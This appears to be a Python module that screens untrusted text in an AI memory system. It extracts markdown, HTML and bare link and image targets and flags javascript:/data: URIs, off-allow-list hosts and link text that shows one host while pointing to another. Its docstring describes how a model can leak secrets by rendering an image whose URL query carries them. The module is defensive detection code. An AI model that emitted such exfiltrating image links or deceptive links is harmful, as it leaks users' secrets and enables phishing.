"""Links and images in untrusted text: where they point, and whether the tenant allows that host.

A model that renders ``![x](https://host/?q=<secret>)`` makes the client fetch the URL, which leaks
whatever the model put in the query; a link whose text shows one address and whose target is
another is phishing. Targets are read the way a renderer reads them (markdown-it for inline and
reference-style links and images, HTML ``href``/``src``, bare URLs), so a reference definition or
an autolink is not missed. A host is allowed when it, or a parent domain of it, is on the tenant's
allow-list; by default nothing outside is allowed in text from untrusted sources.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Collection, Iterator
from dataclasses import dataclass

from markdown_it import MarkdownIt
from markdown_it.token import Token

from memory.manager.screen.findings import ScreenFinding
from memory.manager.screen.literals import rule, tag_findall

_MD = MarkdownIt("commonmark")
_BARE_URL = rule(r"\b(?:https?|ftp)://[^\s<>\"'`)\]]+|\bwww\.[a-z0-9-]+(?:\.[a-z0-9-]+)+[^\s<>\"')\]]*", re.I)
_HTML_ATTR = rule(r"<\s*(a|img|iframe|script|link|source|video|audio|embed|object|form)\b[^>]*?"
                        r"\b(?:href|src|action|data)\s*=\s*[\"']?([^\"'\s>]+)", re.I)  # fmt: skip
_HTML_OPEN = rule(r"<\s*(?:a|img|iframe|script|link|source|video|audio|embed|object|form)\b", re.I)
_SCRIPT_URI = rule(r"^\s*(?:javascript|vbscript|data)\s*:", re.I)
# An XML namespace (xmlns="http://www.w3.org/2000/svg") names a vocabulary; nothing fetches it.
_XMLNS = rule(r"\bxmlns(?::[\w.-]+)?\s*=\s*(?:\"[^\"]*\"|'[^']*')", re.I)
_HOST_IN_TEXT = rule(r"(?:https?://)?((?:[a-z0-9-]+\.)+[a-z]{2,})", re.I)


@dataclass(frozen=True)
class Target:
    kind: str  # "link" or "image"
    url: str
    shown: str = ""  # the link text, when a renderer shows one


def targets(text: str) -> Iterator[Target]:
    """Every link and image target in ``text``, markdown (inline and reference), HTML and bare."""
    seen: set[tuple[str, str]] = set()
    for target in _markdown_targets(text):
        seen.add((target.kind, target.url))
        yield target
    for tag, url in tag_findall(_HTML_OPEN, _HTML_ATTR, text):
        kind = "link" if tag.lower() in ("a", "form") else "image"
        if (kind, url) not in seen:
            seen.add((kind, url))
            yield Target(kind, url)
    for found in _BARE_URL.findall(_XMLNS.sub(" ", text)):
        url = found.rstrip(
            ".,;:!?"
        )  # "see https://portal.acme.example, then ...": the comma ends the sentence
        if not any(url in known for _, known in seen):
            seen.add(("link", url))
            yield Target("link", url)


def _markdown_targets(text: str) -> Iterator[Target]:
    try:
        tokens = _MD.parse(text)
    except Exception:  # markdown-it is total on str input; a parser bug must not disable the other checks
        return
    for token in _flatten(tokens):
        if token.type == "image":
            yield Target("image", str(token.attrs.get("src", "")), token.content)
        elif token.type == "link_open":
            yield Target("link", str(token.attrs.get("href", "")), token.meta.get("shown", ""))


def _flatten(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        if token.children:
            children = token.children
            for i, child in enumerate(children):  # remember the text shown inside each link
                if child.type == "link_open":
                    shown = []
                    for inner in children[i + 1 :]:
                        if inner.type == "link_close":
                            break
                        shown.append(inner.content)
                    child.meta["shown"] = "".join(shown)
            yield from _flatten(children)
        yield token


def host_of(url: str) -> str | None:
    if url.lower().startswith("www."):
        url = "http://" + url
    try:
        host = urllib.parse.urlsplit(url.strip()).hostname
    except ValueError:
        return None
    return host.rstrip(".").lower() if host else None


def allowed(host: str, allow: Collection[str]) -> bool:
    return any(host == a or host.endswith("." + a) for a in (h.lower().lstrip(".") for h in allow))


def link_findings(text: str, allow: Collection[str]) -> list[ScreenFinding]:
    found: list[ScreenFinding] = []
    for target in targets(text):
        if _SCRIPT_URI.match(target.url):
            found.append(ScreenFinding("exfiltration", f"{target.kind} to a javascript:/data: URI"))
            continue
        host = host_of(target.url)
        if host is None:
            continue  # a relative link stays on the page it came from
        query = " carrying query data" if urllib.parse.urlsplit(target.url).query else ""
        if target.kind == "image" and (query or not allowed(host, allow)):
            # Rendering it makes the client fetch the URL: whatever the model put in it leaves.
            found.append(
                ScreenFinding("exfiltration", f"image the client would fetch from an outside host{query}")
            )
        elif not allowed(host, allow):
            found.append(
                ScreenFinding("outside link", f"link to a host outside the tenant's allow-list{query}")
            )
        shown = _HOST_IN_TEXT.search(target.shown or "")
        if shown and host_of("http://" + shown.group(1)) != host and target.kind == "link":
            found.append(ScreenFinding("deceptive link", "link text shows one host, the target is another"))
    return found
